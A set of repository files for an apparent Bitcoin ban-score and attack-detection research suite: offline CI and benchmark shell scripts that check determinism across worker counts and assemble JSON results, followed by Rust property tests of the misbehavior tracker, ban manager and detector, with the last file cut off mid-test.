#!/usr/bin/env bash
# Hermetic CI gate: the workspace must build, test and compile its benches
# OFFLINE, with no crates.io dependencies. A dependency creeping back into
# any Cargo.toml fails here immediately (`--offline` + empty registry).
set -euo pipefail
cd "$(dirname "$0")/.."

echo "==> cargo tree: dependency graph must contain only workspace members"
externals=$(cargo tree --offline --workspace --edges normal,build,dev \
  | grep -oE '[a-zA-Z0-9_-]+ v[0-9][^ ]*' \
  | awk '{print $1}' | sort -u \
  | grep -vE '^(banscore|banscore-suite|btc-attack|btc-bench|btc-detect|btc-lint|btc-netsim|btc-node|btc-par|btc-wire)$' \
  || true)
if [ -n "$externals" ]; then
  echo "ERROR: external crates in the dependency graph:" >&2
  echo "$externals" >&2
  exit 1
fi

echo "==> release build (offline, warnings are errors)"
RUSTFLAGS="-D warnings" cargo build --release --offline --workspace

echo "==> btc-lint: determinism / panic-safety / ban-exhaustiveness gate"
# Same RUSTFLAGS as the build step so the release cache is reused. The gate
# consumes the machine-readable --json output: the findings array must be
# empty, and the call-graph stats must show the analyzer actually resolved a
# workspace-sized graph (a lexer/parser regression that silently dropped all
# functions would otherwise pass as "clean").
lint_json="target/lint.json"
RUSTFLAGS="-D warnings" cargo run --release --offline -q -p btc-lint -- --json \
  > "$lint_json" || true
if ! grep -q '"findings":\[\]' "$lint_json"; then
  echo "ERROR: btc-lint reported findings:" >&2
  RUSTFLAGS="-D warnings" cargo run --release --offline -q -p btc-lint >&2 || true
  exit 1
fi
fn_count=$(sed -n 's/.*"functions":\([0-9]*\).*/\1/p' "$lint_json")
edge_count=$(sed -n 's/.*"edges":\([0-9]*\).*/\1/p' "$lint_json")
if [ -z "$fn_count" ] || [ "$fn_count" -lt 100 ] || [ "$edge_count" -lt 100 ]; then
  echo "ERROR: btc-lint call graph implausibly small (functions=$fn_count edges=$edge_count)" >&2
  exit 1
fi
echo "    lint clean: call graph $fn_count functions / $edge_count edges OK"

echo "==> tests (offline)"
cargo test -q --offline --workspace

echo "==> benches compile (offline)"
cargo bench --offline --workspace --no-run

echo "==> bench smoke: 1-iteration run must emit JSON records"
smoke_json=$(mktemp)
trap 'rm -f "$smoke_json"' EXIT
BANSCORE_BENCH_SAMPLES=2 BANSCORE_BENCH_WARMUP_MS=1 BANSCORE_BENCH_SAMPLE_MS=1 \
  BANSCORE_BENCH_JSON="$smoke_json" \
  cargo bench --offline -p btc-bench --bench wire_throughput
BANSCORE_BENCH_SAMPLES=2 BANSCORE_BENCH_WARMUP_MS=1 BANSCORE_BENCH_SAMPLE_MS=1 \
  BANSCORE_BENCH_JSON="$smoke_json" \
  cargo bench --offline -p btc-bench --bench msgpath
BANSCORE_BENCH_SAMPLES=2 BANSCORE_BENCH_WARMUP_MS=1 BANSCORE_BENCH_SAMPLE_MS=1 \
  BANSCORE_BENCH_JSON="$smoke_json" \
  cargo bench --offline -p btc-bench --bench reputation
if ! grep -q '"median_ns"' "$smoke_json"; then
  echo "ERROR: bench smoke produced no JSON records (BANSCORE_BENCH_JSON broken?)" >&2
  exit 1
fi
if ! grep -q '"group":"msgpath"' "$smoke_json"; then
  echo "ERROR: msgpath bench emitted no records" >&2
  exit 1
fi
if ! grep -q '"group":"reputation"' "$smoke_json"; then
  echo "ERROR: reputation bench emitted no records" >&2
  exit 1
fi
echo "    $(wc -l < "$smoke_json") bench records OK"

echo "==> jobs matrix: repro output must be byte-identical at --jobs 1 vs --jobs 4"
# Only the simulation-derived experiments are gated: table2/fig11 time
# wall-clock costs and differ between ANY two runs, serial or not. The
# job count 4 is fixed (not nproc) so the pool's stealing path is
# exercised even on a single-core runner. `faults` doubles as the
# fault-matrix smoke: the quick grid re-runs every attack under packet
# loss, jitter and churn with fixed seeds, so any nondeterminism in the
# fault layer, the retransmission path or the reconnect backoff shows up
# as a diff here. (The single-point bit-equality contract is also a
# test: crates/core/tests/parallel_equivalence.rs.) `reputation` runs the
# three-way trust-tier sweep, so the tier engine's decay/graylist float
# arithmetic is held to the same bit-identity bar.
out1=$(mktemp) out4=$(mktemp)
trap 'rm -f "$smoke_json" "$out1" "$out4"' EXIT
deterministic="table1 fig6 table3 fig8 fig10 evasion faults reputation counter"
cargo run --release --offline -p btc-bench --bin repro -- \
  --quick --jobs 1 $deterministic > "$out1"
cargo run --release --offline -p btc-bench --bin repro -- \
  --quick --jobs 4 $deterministic > "$out4"
if ! diff -u "$out1" "$out4"; then
  echo "ERROR: repro output differs between --jobs 1 and --jobs 4" >&2
  exit 1
fi
echo "    $(wc -l < "$out1") output lines identical across job counts OK"

echo "==> serve smoke: sharded service must be byte-identical at 1 vs 4 shards"
# The serve scenario prints one deterministic `digest shards=N <hex>` line
# per (case, shard count); wall-clock lines are prefixed [wall] and are
# not compared. A digest mismatch means the sharded per-peer service
# diverged from the serial run — the determinism contract is broken.
serve_out=$(mktemp)
trap 'rm -f "$smoke_json" "$out1" "$out4" "$serve_out"' EXIT
cargo run --release --offline -p btc-bench --bin repro -- \
  --quick --jobs 2 serve > "$serve_out"
d1=$(grep -E '^  digest shards=1 ' "$serve_out" | awk '{print $3}')
d4=$(grep -E '^  digest shards=4 ' "$serve_out" | awk '{print $3}')
if [ -z "$d1" ] || [ "$d1" != "$d4" ]; then
  echo "ERROR: serve digests differ between 1 and 4 shards" >&2
  grep -E '^  digest' "$serve_out" >&2 || true
  exit 1
fi
if grep -E '^  (streaming vs batch|node aggregate)' "$serve_out" \
    | grep -vE 'agree=yes|([0-9]+)/\1 cells' | grep -q .; then
  echo "ERROR: streaming verdicts disagree with the batch engine" >&2
  grep -E '^  (streaming vs batch|node aggregate)' "$serve_out" >&2
  exit 1
fi
echo "    $(echo "$d1" | wc -l) case digests identical across shard counts OK"

echo "==> swarm smoke: sharded netsim must be byte-identical at 1 vs 4 workers"
# The swarm scenario prints one deterministic `digest workers=N <hex>` line
# per (case, worker count); wall-clock lines are prefixed [wall] and are
# not compared. A digest mismatch means the conservative-lookahead shard
# runtime diverged from the serial event loop — the bit-identity contract
# of crates/netsim/src/shard.rs is broken. The quick grid times 1 and 4
# workers on a small topology, so this doubles as the shard-matrix smoke.
swarm_out=$(mktemp)
trap 'rm -f "$smoke_json" "$out1" "$out4" "$serve_out" "$swarm_out"' EXIT
cargo run --release --offline -p btc-bench --bin repro -- \
  --quick swarm > "$swarm_out"
s1=$(grep -E '^  digest workers=1 ' "$swarm_out" | awk '{print $3}')
s4=$(grep -E '^  digest workers=4 ' "$swarm_out" | awk '{print $3}')
if [ -z "$s1" ] || [ "$s1" != "$s4" ]; then
  echo "ERROR: swarm digests differ between 1 and 4 workers" >&2
  grep -E '^  digest' "$swarm_out" >&2 || true
  exit 1
fi
if grep -q 'DIVERGED' "$swarm_out"; then
  echo "ERROR: swarm outcome counters diverged across worker counts" >&2
  grep -E 'DIVERGED' "$swarm_out" >&2
  exit 1
fi
echo "    $(echo "$s1" | wc -l) case digests identical across worker counts OK"

echo "CI OK: hermetic build, tests green, benches compile, bench smoke emits JSON,"
echo "       parallel sweeps reproduce the serial output byte for byte,"
echo "       sharded streaming service reproduces the serial digests,"
echo "       sharded netsim reproduces the serial digests at every worker count."
