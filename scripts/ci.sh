#!/usr/bin/env bash
# Hermetic CI gate: the workspace must build, test and compile its benches
# OFFLINE, with no crates.io dependencies. A dependency creeping back into
# any Cargo.toml fails here immediately (`--offline` + empty registry).
set -euo pipefail
cd "$(dirname "$0")/.."

echo "==> cargo tree: dependency graph must contain only workspace members"
externals=$(cargo tree --offline --workspace --edges normal,build,dev \
  | grep -oE '[a-zA-Z0-9_-]+ v[0-9][^ ]*' \
  | awk '{print $1}' | sort -u \
  | grep -vE '^(banscore|banscore-suite|btc-attack|btc-bench|btc-detect|btc-netsim|btc-node|btc-wire)$' \
  || true)
if [ -n "$externals" ]; then
  echo "ERROR: external crates in the dependency graph:" >&2
  echo "$externals" >&2
  exit 1
fi

echo "==> release build (offline)"
cargo build --release --offline --workspace

echo "==> tests (offline)"
cargo test -q --offline --workspace

echo "==> benches compile (offline)"
cargo bench --offline --workspace --no-run

echo "==> bench smoke: 1-iteration run must emit JSON records"
smoke_json=$(mktemp)
trap 'rm -f "$smoke_json"' EXIT
BANSCORE_BENCH_SAMPLES=2 BANSCORE_BENCH_WARMUP_MS=1 BANSCORE_BENCH_SAMPLE_MS=1 \
  BANSCORE_BENCH_JSON="$smoke_json" \
  cargo bench --offline -p btc-bench --bench wire_throughput
if ! grep -q '"median_ns"' "$smoke_json"; then
  echo "ERROR: bench smoke produced no JSON records (BANSCORE_BENCH_JSON broken?)" >&2
  exit 1
fi
echo "    $(wc -l < "$smoke_json") bench records OK"

echo "CI OK: hermetic build, tests green, benches compile, bench smoke emits JSON."
