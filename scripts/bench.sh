#!/usr/bin/env bash
# Runs the six benches with pinned BANSCORE_BENCH_* settings and writes
# results/BENCH_hashpath.json: median/p10/p90 per bench for the current
# tree (the "current" section), next to the committed pre-overhaul
# baseline (the "baseline" section).
#
# Usage:
#   scripts/bench.sh              # refresh the "current" section
#   scripts/bench.sh --baseline   # ALSO overwrite the committed baseline
#                                 # (only when re-seeding on a new machine)
#
# The per-bench JSON lines come from the harness itself (BANSCORE_BENCH_JSON,
# see crates/bench/src/harness.rs); this script only pins the measurement
# settings and assembles the two sections into one document.
set -euo pipefail
cd "$(dirname "$0")/.."

MODE=current
if [ "${1:-}" = "--baseline" ]; then
  MODE=baseline
fi

# Pinned measurement settings — keep baseline and current comparable.
export BANSCORE_BENCH_SAMPLES="${BANSCORE_BENCH_SAMPLES:-30}"
export BANSCORE_BENCH_WARMUP_MS="${BANSCORE_BENCH_WARMUP_MS:-300}"
export BANSCORE_BENCH_SAMPLE_MS="${BANSCORE_BENCH_SAMPLE_MS:-20}"

jsonl=$(mktemp)
trap 'rm -f "$jsonl"' EXIT
export BANSCORE_BENCH_JSON="$jsonl"

cargo bench --offline --workspace

if [ ! -s "$jsonl" ]; then
  echo "ERROR: benches produced no JSON records (BANSCORE_BENCH_JSON broken?)" >&2
  exit 1
fi

baseline=results/BENCH_hashpath_baseline.jsonl
if [ "$MODE" = baseline ]; then
  cp "$jsonl" "$baseline"
fi

mkdir -p results
{
  echo '{'
  echo '  "schema": "banscore-bench-hashpath-v1",'
  echo "  \"settings\": {\"samples\": ${BANSCORE_BENCH_SAMPLES}, \"warmup_ms\": ${BANSCORE_BENCH_WARMUP_MS}, \"sample_ms\": ${BANSCORE_BENCH_SAMPLE_MS}},"
  echo '  "baseline": ['
  if [ -f "$baseline" ]; then
    sed 's/^/    /; $!s/$/,/' "$baseline"
  fi
  echo '  ],'
  echo '  "current": ['
  sed 's/^/    /; $!s/$/,/' "$jsonl"
  echo '  ]'
} > results/BENCH_hashpath.json
echo '}' >> results/BENCH_hashpath.json
echo "wrote results/BENCH_hashpath.json ($MODE run, $(wc -l < "$jsonl") bench records)"
