#!/usr/bin/env bash
# Runs the benches with pinned BANSCORE_BENCH_* settings and writes
# results/BENCH_hashpath.json and results/BENCH_sweep.json: median/p10/p90
# per bench for the current tree (the "current" section), next to the
# committed pre-change baseline (the "baseline" section). The sweep
# document isolates the `sweep` bench group (fig6/table3/evasion serial
# vs `btc_par` fan-out) against its pre-parallelism baseline.
#
# It also regenerates results/BENCH_faults.json: the detector-robustness
# fault matrix (repro faults, quick grid) next to the committed
# clean-network baseline rows, so detector drift under loss/jitter/churn
# is diffable against the fault-free behaviour.
#
# Usage:
#   scripts/bench.sh              # refresh the "current" section
#   scripts/bench.sh --baseline   # ALSO overwrite the committed baseline
#                                 # (only when re-seeding on a new machine)
#
# The per-bench JSON lines come from the harness itself (BANSCORE_BENCH_JSON,
# see crates/bench/src/harness.rs); this script only pins the measurement
# settings and assembles the two sections into one document.
set -euo pipefail
cd "$(dirname "$0")/.."

MODE=current
if [ "${1:-}" = "--baseline" ]; then
  MODE=baseline
fi

# Pinned measurement settings — keep baseline and current comparable.
export BANSCORE_BENCH_SAMPLES="${BANSCORE_BENCH_SAMPLES:-30}"
export BANSCORE_BENCH_WARMUP_MS="${BANSCORE_BENCH_WARMUP_MS:-300}"
export BANSCORE_BENCH_SAMPLE_MS="${BANSCORE_BENCH_SAMPLE_MS:-20}"

jsonl=$(mktemp)
trap 'rm -f "$jsonl"' EXIT
export BANSCORE_BENCH_JSON="$jsonl"

cargo bench --offline --workspace

if [ ! -s "$jsonl" ]; then
  echo "ERROR: benches produced no JSON records (BANSCORE_BENCH_JSON broken?)" >&2
  exit 1
fi

# Split the sweep and msgpath groups out of the combined record stream:
# each has its own baseline and document.
sweep_jsonl=$(mktemp)
grep '"group":"sweep"' "$jsonl" > "$sweep_jsonl" || true
msgpath_jsonl=$(mktemp)
grep '"group":"msgpath"' "$jsonl" > "$msgpath_jsonl" || true
rep_jsonl=$(mktemp)
grep '"group":"reputation"' "$jsonl" > "$rep_jsonl" || true
hash_jsonl=$(mktemp)
grep -v '"group":"sweep"\|"group":"msgpath"\|"group":"reputation"' "$jsonl" > "$hash_jsonl" || true
trap 'rm -f "$jsonl" "$sweep_jsonl" "$msgpath_jsonl" "$rep_jsonl" "$hash_jsonl"' EXIT

mkdir -p results

# assemble <schema> <baseline.jsonl> <current.jsonl> <out.json>
assemble() {
  local schema=$1 baseline=$2 current=$3 out=$4
  {
    echo '{'
    echo "  \"schema\": \"${schema}\","
    echo "  \"settings\": {\"samples\": ${BANSCORE_BENCH_SAMPLES}, \"warmup_ms\": ${BANSCORE_BENCH_WARMUP_MS}, \"sample_ms\": ${BANSCORE_BENCH_SAMPLE_MS}},"
    echo '  "baseline": ['
    if [ -f "$baseline" ]; then
      sed 's/^/    /; $!s/$/,/' "$baseline"
    fi
    echo '  ],'
    echo '  "current": ['
    sed 's/^/    /; $!s/$/,/' "$current"
    echo '  ]'
    echo '}'
  } > "$out"
  echo "wrote $out ($MODE run, $(wc -l < "$current") bench records)"
}

if [ "$MODE" = baseline ]; then
  cp "$hash_jsonl" results/BENCH_hashpath_baseline.jsonl
  cp "$sweep_jsonl" results/BENCH_sweep_baseline.jsonl
  # The msgpath bench carries its own pre-change reference: the `oldpath_*`
  # rows reimplement the replaced Vec-plus-tail-copy drain, so they ARE the
  # baseline regardless of when the baseline is re-seeded.
  grep '"bench":"oldpath' "$msgpath_jsonl" \
    > results/BENCH_msgpath_baseline.jsonl || true
  # Likewise for the reputation bench: the `stock_*` rows run the stock
  # MisbehaviorTracker the tier engine is compared against.
  grep '"bench":"stock' "$rep_jsonl" \
    > results/BENCH_reputation_baseline.jsonl || true
fi

assemble banscore-bench-hashpath-v1 results/BENCH_hashpath_baseline.jsonl \
  "$hash_jsonl" results/BENCH_hashpath.json
assemble banscore-bench-sweep-v1 results/BENCH_sweep_baseline.jsonl \
  "$sweep_jsonl" results/BENCH_sweep.json
assemble banscore-bench-msgpath-v1 results/BENCH_msgpath_baseline.jsonl \
  "$msgpath_jsonl" results/BENCH_msgpath.json

# Gate: the graylist soft-ban must recover at least 100x faster than the
# stock 24 h hard ban. The recovery seconds are deterministic
# (throughput_per_iter of the *_recovery_s rows — stock from the BanMan
# duration, tiers measured from the engine), so this is a property of the
# code, not of the machine.
stock_rec=$(grep '"bench":"stock_recovery_s"' "$rep_jsonl" \
  | sed 's/.*"throughput_per_iter"://; s/[^0-9].*//')
tiers_rec=$(grep '"bench":"tiers_recovery_s"' "$rep_jsonl" \
  | sed 's/.*"throughput_per_iter"://; s/[^0-9].*//')
if [ -z "$stock_rec" ] || [ -z "$tiers_rec" ] \
    || [ $((stock_rec / (tiers_rec > 0 ? tiers_rec : 1))) -lt 100 ]; then
  echo "ERROR: reputation recovery gate failed: stock=${stock_rec:-?}s tiers=${tiers_rec:-?}s (need >=100x faster graylist recovery)" >&2
  exit 1
fi
echo "reputation recovery gate: stock ${stock_rec}s -> graylist ${tiers_rec}s OK"

# Gate: per multi-frame burst (ping flood, fig10 mix) the zero-copy path
# must move at least 2x fewer bytes than the old drain. The memmove counts
# are deterministic (throughput_per_iter of the *_memmove rows), so this is
# a property of the code, not of the machine.
for shape in ping_flood fig10_mix; do
  new_mv=$(grep "\"bench\":\"${shape}_memmove\"" "$msgpath_jsonl" \
    | sed 's/.*"throughput_per_iter"://; s/[^0-9].*//')
  old_mv=$(grep "\"bench\":\"oldpath_${shape}_memmove\"" "$msgpath_jsonl" \
    | sed 's/.*"throughput_per_iter"://; s/[^0-9].*//')
  if [ -z "$new_mv" ] || [ -z "$old_mv" ] || [ $((old_mv / (new_mv > 0 ? new_mv : 1))) -lt 2 ]; then
    echo "ERROR: msgpath memmove gate failed for ${shape}: new=${new_mv:-?} old=${old_mv:-?} (need >=2x reduction)" >&2
    exit 1
  fi
  echo "msgpath memmove gate: ${shape} ${old_mv} -> ${new_mv} bytes/burst OK"
done

# ---- detector robustness under injected faults ------------------------
# The fault matrix is fully deterministic (fixed seeds, virtual time), so
# unlike the wall-clock benches above its "current" section only moves
# when the simulator, the protocol stack or the detector change — which
# is exactly what the committed clean-network baseline makes visible.
echo "==> fault matrix (repro faults, quick grid)"
cargo run --release --offline -p btc-bench --bin repro -- \
  --quick --csv --jobs 4 faults > /dev/null
if [ ! -s results/fault_matrix.csv ]; then
  echo "ERROR: repro faults produced no results/fault_matrix.csv" >&2
  exit 1
fi

if [ "$MODE" = baseline ]; then
  # The clean-network rows (loss=0 jitter=0 churn=0) ARE the baseline.
  { head -1 results/fault_matrix.csv
    grep '^0\.000,0,0,' results/fault_matrix.csv || true
  } > results/BENCH_faults_baseline.csv
fi

# csv_rows <file> — emit the file's lines as a JSON string array body.
csv_rows() {
  sed 's/\r$//; s/["\\]/\\&/g; s/^/    "/; s/$/"/; $!s/$/,/' "$1"
}

{
  echo '{'
  echo '  "schema": "banscore-fault-matrix-v1",'
  echo '  "settings": {"grid": "quick", "jobs": 4},'
  echo '  "baseline": ['
  if [ -f results/BENCH_faults_baseline.csv ]; then
    csv_rows results/BENCH_faults_baseline.csv
  fi
  echo '  ],'
  echo '  "current": ['
  csv_rows results/fault_matrix.csv
  echo '  ]'
  echo '}'
} > results/BENCH_faults.json
echo "wrote results/BENCH_faults.json ($MODE run, $(( $(wc -l < results/fault_matrix.csv) - 1 )) grid points)"

# ---- streaming detector service vs batch engine -----------------------
# `repro serve` replays the recorded fig10 traffic through the sharded
# per-peer profile service at 1/2/4 shards and through the batch
# AnalysisEngine pipeline. The digest column is deterministic; the
# throughput/latency columns are wall-clock. The committed baseline is
# the batch-engine rows, so streaming-vs-batch drift (and any digest
# change, i.e. a verdict change) is diffable.
echo "==> streaming service (repro serve, quick sizes)"
cargo run --release --offline -p btc-bench --bin repro -- \
  --quick --csv --jobs 4 serve > /dev/null
if [ ! -s results/serve.csv ]; then
  echo "ERROR: repro serve produced no results/serve.csv" >&2
  exit 1
fi

if [ "$MODE" = baseline ]; then
  # The batch-engine rows ARE the baseline the streaming service is
  # compared against.
  { head -1 results/serve.csv
    grep '^batch,' results/serve.csv || true
  } > results/BENCH_detect_serve_baseline.csv
fi

{
  echo '{'
  echo '  "schema": "banscore-detect-serve-v1",'
  echo '  "settings": {"sizes": "quick", "jobs": 4, "shards": [1, 2, 4]},'
  echo '  "baseline": ['
  if [ -f results/BENCH_detect_serve_baseline.csv ]; then
    csv_rows results/BENCH_detect_serve_baseline.csv
  fi
  echo '  ],'
  echo '  "current": ['
  csv_rows results/serve.csv
  echo '  ]'
  echo '}'
} > results/BENCH_detect_serve.json
echo "wrote results/BENCH_detect_serve.json ($MODE run, $(( $(wc -l < results/serve.csv) - 1 )) rows)"

# ---- sharded simulator swarm scale ------------------------------------
# `repro swarm` runs the attack testbed inside a 25k/50k/100k-host
# background swarm on the sharded netsim at 1/2/4/8 workers, timing each
# cell. The digest/counter columns are deterministic and identical at
# every worker count (CI asserts this on the quick grid); wall_secs and
# speedup are wall-clock and carry the hosts-vs-wall-clock curve. The
# committed baseline is the workers=1 rows, so parallel-runtime drift in
# outcome (a digest change) or in serial cost is diffable. Speedup over
# the baseline needs a multi-core runner. Runs serially by design
# (`--jobs` does not apply): each cell may spin up worker threads and
# overlapping cells would corrupt the timing.
echo "==> swarm scale (repro swarm, full grid — 100k hosts, ~1 min)"
cargo run --release --offline -p btc-bench --bin repro -- \
  --csv swarm > /dev/null
if [ ! -s results/swarm.csv ]; then
  echo "ERROR: repro swarm produced no results/swarm.csv" >&2
  exit 1
fi

if [ "$MODE" = baseline ]; then
  # The workers=1 rows ARE the serial baseline the sharded runs are
  # compared against (CSV column 4 is the worker count).
  { head -1 results/swarm.csv
    awk -F, 'NR > 1 && $4 == 1' results/swarm.csv
  } > results/BENCH_swarm_baseline.csv
fi

# ---- trust-tier reputation sweep --------------------------------------
# `repro reputation` runs the three-way (stock / detector / trust-tiers)
# comparison over BM-DoS, Defamation and two honest-churn points, plus
# the swarm pinning case. Every column is simulation-derived and
# deterministic. The document pairs the bench-harness rows (baseline =
# committed stock_* rows) with the sweep CSV, so both the per-event
# accounting overhead and the policy outcomes are diffable.
echo "==> reputation sweep (repro reputation, quick sizes)"
cargo run --release --offline -p btc-bench --bin repro -- \
  --quick --csv --jobs 4 reputation > /dev/null
if [ ! -s results/reputation.csv ]; then
  echo "ERROR: repro reputation produced no results/reputation.csv" >&2
  exit 1
fi

if [ "$MODE" = baseline ]; then
  # The stock-policy rows ARE the baseline the tier engine's sweep
  # outcomes are compared against (CSV column 2 is the policy).
  { head -1 results/reputation.csv
    awk -F, 'NR > 1 && $2 == "stock"' results/reputation.csv
  } > results/BENCH_reputation_baseline.csv
fi

{
  echo '{'
  echo '  "schema": "banscore-reputation-v1",'
  echo '  "settings": {"sizes": "quick", "jobs": 4, "policies": ["stock", "detector", "trust-tiers"]},'
  echo '  "baseline": ['
  if [ -f results/BENCH_reputation_baseline.jsonl ]; then
    sed 's/^/    /; $!s/$/,/' results/BENCH_reputation_baseline.jsonl
  fi
  echo '  ],'
  echo '  "current": ['
  sed 's/^/    /; $!s/$/,/' "$rep_jsonl"
  echo '  ],'
  echo '  "sweep_baseline": ['
  if [ -f results/BENCH_reputation_baseline.csv ]; then
    csv_rows results/BENCH_reputation_baseline.csv
  fi
  echo '  ],'
  echo '  "sweep": ['
  csv_rows results/reputation.csv
  echo '  ]'
  echo '}'
} > results/BENCH_reputation.json
echo "wrote results/BENCH_reputation.json ($MODE run, $(( $(wc -l < results/reputation.csv) - 1 )) sweep rows)"

{
  echo '{'
  echo '  "schema": "banscore-swarm-v1",'
  echo '  "settings": {"sizes": [25000, 50000, 100000], "workers": [1, 2, 4, 8], "regions": 8},'
  echo '  "baseline": ['
  if [ -f results/BENCH_swarm_baseline.csv ]; then
    csv_rows results/BENCH_swarm_baseline.csv
  fi
  echo '  ],'
  echo '  "current": ['
  csv_rows results/swarm.csv
  echo '  ]'
  echo '}'
} > results/BENCH_swarm.json
echo "wrote results/BENCH_swarm.json ($MODE run, $(( $(wc -l < results/swarm.csv) - 1 )) rows)"
