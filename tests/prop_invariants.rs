//! Property-based invariants across the suite's core data structures.
//! Driven by the in-repo `btc_netsim::prop` harness.

use btc_attack::socket_model::SocketModel;
use btc_detect::engine::AnalysisEngine;
use btc_detect::features::{correlation, TrafficWindow, NUM_TYPES};
use btc_netsim::packet::SockAddr;
use btc_netsim::prop::{check, Gen};
use btc_node::banscore::{
    BanPolicy, CoreVersion, Misbehavior, MisbehaviorTracker, Verdict, ALL_MISBEHAVIORS,
};
use btc_node::BanMan;

fn arb_addr(g: &mut Gen) -> SockAddr {
    SockAddr::new(g.array4(), g.u16())
}

fn arb_rule(g: &mut Gen) -> Misbehavior {
    *g.choose(&ALL_MISBEHAVIORS)
}

#[test]
fn tracker_score_is_monotone_and_ban_is_exact() {
    check("tracker_score_is_monotone_and_ban_is_exact", |g| {
        let rules = g.vec_with(1, 200, |g| (arb_rule(g), g.bool()));
        let peer = arb_addr(g);
        let mut t = MisbehaviorTracker::new(CoreVersion::V0_20, BanPolicy::Standard);
        let mut prev = 0u32;
        for (i, (rule, inbound)) in rules.iter().enumerate() {
            let before = t.score(&peer);
            assert_eq!(before, prev);
            match t.misbehaving(i as u64, peer, *inbound, *rule) {
                Verdict::Ignored => {
                    assert_eq!(t.score(&peer), before);
                    assert!(!rule.applies_to(*inbound) || rule.penalty(CoreVersion::V0_20).is_none());
                }
                Verdict::Scored { total } => {
                    assert!(total > before);
                    assert!(total < 100, "scored but total {} >= threshold", total);
                    prev = total;
                }
                Verdict::Ban { total } => {
                    assert!(total >= 100);
                    // A real node disconnects and forgets here; stop.
                    return;
                }
            }
        }
    });
}

#[test]
fn deprecated_rules_never_score_anywhere() {
    check("deprecated_rules_never_score_anywhere", |g| {
        let rule = arb_rule(g);
        let inbound = g.bool();
        let peer = arb_addr(g);
        for version in [CoreVersion::V0_20, CoreVersion::V0_21, CoreVersion::V0_22] {
            let mut t = MisbehaviorTracker::new(version, BanPolicy::Standard);
            let v = t.misbehaving(0, peer, inbound, rule);
            if rule.penalty(version).is_none() || !rule.applies_to(inbound) {
                assert_eq!(v, Verdict::Ignored);
                assert_eq!(t.score(&peer), 0);
            } else {
                assert!(t.score(&peer) > 0);
            }
        }
    });
}

#[test]
fn banman_expiry_is_exact() {
    check("banman_expiry_is_exact", |g| {
        let peer = arb_addr(g);
        let ban_at = g.u64_in(0, 1_000_000_000);
        let duration = g.u64_in(1, 1_000_000_000);
        let probe = g.u64_in(0, 3_000_000_000);
        let mut bm = BanMan::with_duration(duration);
        bm.ban(ban_at, peer);
        let expect = probe >= ban_at && probe < ban_at + duration;
        assert_eq!(
            bm.is_banned(probe, &peer),
            expect
                || probe < ban_at && {
                    // Bans apply from creation; probing before creation reports
                    // banned too (time never runs backwards in the simulator).
                    probe < ban_at + duration
                }
        );
    });
}

#[test]
fn banman_never_affects_other_identifiers() {
    check("banman_never_affects_other_identifiers", |g| {
        let a = arb_addr(g);
        let b = arb_addr(g);
        let t = g.u64_in(0, 1_000_000);
        if a == b {
            return;
        }
        let mut bm = BanMan::new();
        bm.ban(0, a);
        assert!(!bm.is_banned(t, &b));
    });
}

#[test]
fn correlation_is_bounded_and_symmetric() {
    check("correlation_is_bounded_and_symmetric", |g| {
        let a = g.vec_with(2, 64, |g| g.f64_in(0.0, 1e6));
        let b_seed = g.vec_with(2, 64, |g| g.f64_in(0.0, 1e6));
        let n = a.len().min(b_seed.len());
        let a = &a[..n];
        let b = &b_seed[..n];
        let r = correlation(a, b);
        assert!((-1.0001..=1.0001).contains(&r), "rho {r}");
        let r2 = correlation(b, a);
        assert!((r - r2).abs() < 1e-9);
    });
}

#[test]
fn window_distribution_is_a_distribution() {
    check("window_distribution_is_a_distribution", |g| {
        let counts: Vec<u64> = (0..NUM_TYPES).map(|_| g.u64_in(0, 1_000_000)).collect();
        let reconnects = g.u64_in(0, 1000);
        let mut w = TrafficWindow::empty(10.0);
        w.counts.copy_from_slice(&counts);
        w.reconnects = reconnects;
        let d = w.distribution();
        assert!(d.iter().all(|v| (0.0..=1.0).contains(v)));
        let sum: f64 = d.iter().sum();
        if w.total() > 0 {
            assert!((sum - 1.0).abs() < 1e-9, "sum {sum}");
        } else {
            assert_eq!(sum, 0.0);
        }
    });
}

#[test]
fn detector_never_flags_its_own_training_windows() {
    check("detector_never_flags_its_own_training_windows", |g| {
        let seeds = g.vec_with(5, 40, |g| g.u64_in(1, 1000));
        let windows: Vec<TrafficWindow> = seeds
            .iter()
            .map(|s| {
                let mut w = TrafficWindow::empty(10.0);
                w.counts[12] = 1000 + s % 300;
                w.counts[6] = 900 + (s * 3) % 200;
                w.counts[4] = 200 + s % 100;
                w.reconnects = s % 3;
                w
            })
            .collect();
        let engine = AnalysisEngine::default();
        let profile = engine.train(&windows).unwrap();
        for w in &windows {
            let d = engine.detect(&profile, w);
            assert!(!d.anomalous, "training window flagged: {d:?}");
        }
    });
}

#[test]
fn socket_model_rates_respect_caps() {
    check("socket_model_rates_respect_caps", |g| {
        let n = g.usize_in(1, 64);
        let msg_bytes = g.usize_in(1, 4_000_000);
        let m = SocketModel::default();
        let agg = m.aggregate_rate(n, msg_bytes);
        // Never exceeds the thread cap nor the line rate.
        assert!(agg <= m.app_rate_cap * (n as f64) + 1e-9);
        assert!(agg * (msg_bytes as f64) * 8.0 <= m.bandwidth_bps + 1e-3);
        // Monotone in n.
        let agg2 = m.aggregate_rate(n + 1, msg_bytes);
        assert!(agg2 + 1e-9 >= agg);
        // Per-connection interval inverts the rate.
        let ival = m.min_interval(n, msg_bytes);
        assert!(ival >= 1);
    });
}

#[test]
fn contention_model_is_monotone_and_bounded() {
    check("contention_model_is_monotone_and_bounded", |g| {
        let msgs = g.u64_in(0, 10_000_000);
        let bytes = g.u64_in(0, 10_000_000_000);
        let m = banscore::ContentionModel::default();
        let l = m.app_layer_load(msgs, bytes, 10.0);
        let rate = m.mining_rate(l);
        assert!(rate <= m.baseline_hash_rate + 1e-6);
        assert!(rate >= m.baseline_hash_rate * (1.0 - m.s_max) - 1e-6);
    });
}
