//! Property-based invariants across the suite's core data structures.

use btc_attack::socket_model::SocketModel;
use btc_detect::engine::AnalysisEngine;
use btc_detect::features::{correlation, TrafficWindow, NUM_TYPES};
use btc_netsim::packet::SockAddr;
use btc_node::banscore::{BanPolicy, CoreVersion, Misbehavior, MisbehaviorTracker, Verdict, ALL_MISBEHAVIORS};
use btc_node::BanMan;
use proptest::prelude::*;

fn arb_addr() -> impl Strategy<Value = SockAddr> {
    (any::<[u8; 4]>(), any::<u16>()).prop_map(|(ip, port)| SockAddr::new(ip, port))
}

fn arb_rule() -> impl Strategy<Value = Misbehavior> {
    (0usize..ALL_MISBEHAVIORS.len()).prop_map(|i| ALL_MISBEHAVIORS[i])
}

proptest! {
    #[test]
    fn tracker_score_is_monotone_and_ban_is_exact(
        rules in proptest::collection::vec((arb_rule(), any::<bool>()), 1..200),
